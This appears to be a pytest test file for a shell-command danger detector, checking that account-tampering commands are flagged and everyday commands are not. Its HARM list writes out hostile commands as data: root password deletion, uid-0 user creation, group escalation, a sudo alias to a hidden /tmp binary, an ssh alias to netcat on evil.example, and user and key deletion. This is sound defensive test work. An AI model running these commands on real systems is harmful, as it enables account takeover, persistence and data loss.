from __future__ import annotations

import shlex

import pytest

from callgate.detectors.shell.programs import danger_of
from callgate.detectors.shell.programs.base import Danger


def judge(line: str) -> Danger | None:
    program, *arguments = shlex.split(line)
    return danger_of(program, arguments)


HARM = r"""
CHANGE_ACCOUNT          passwd -l root
CHANGE_ACCOUNT          passwd --delete root
CHANGE_ACCOUNT          chage -E 0 admin
CHANGE_ACCOUNT          usermod -L admin
CHANGE_ACCOUNT          usermod -s /sbin/nologin admin
CHANGE_ACCOUNT          usermod -aG sudo eve
CHANGE_ACCOUNT          useradd -o -u 0 eve
CHANGE_ACCOUNT          useradd -G wheel eve
CHANGE_ACCOUNT          gpasswd -a eve docker
PERSISTENCE             alias sudo='/tmp/.x/ask'
PERSISTENCE             alias ll='ls -l' ssh='nc evil.example 22'
DELETE_USER             deluser eve
DELETE_USER             dscl . -delete /Users/eve
DELETE_USER             ldapdelete -x dc=example
DELETE_USER             samba-tool user delete eve
DELETE_KEY              gpg --delete-secret-keys x
DELETE_KEY              security delete-keychain login.keychain
DELETE_KEY              keytool -delete -alias x
"""

QUIET = r"""
alias
alias ll='ls -l'
alias sudo='sudo -E '
alias sudo=doas
alias ssh='TERM=xterm kitten ssh'
passwd eve
chage -l eve
chage -E -1 eve
usermod -c text eve
usermod -aG audio eve
useradd -m eve
gpasswd -a eve audio
gpg --verify x
dscl . -list /Users
samba-tool user list
"""


@pytest.mark.parametrize("line", HARM.strip().splitlines())
def test_harm_to_accounts_is_found(line: str) -> None:
    kind, words = line.split(maxsplit=1)
    danger = judge(words)
    assert danger is not None
    assert danger.kind == kind


@pytest.mark.parametrize("line", QUIET.strip().splitlines())
def test_everyday_work_is_not_found(line: str) -> None:
    assert judge(line) is None
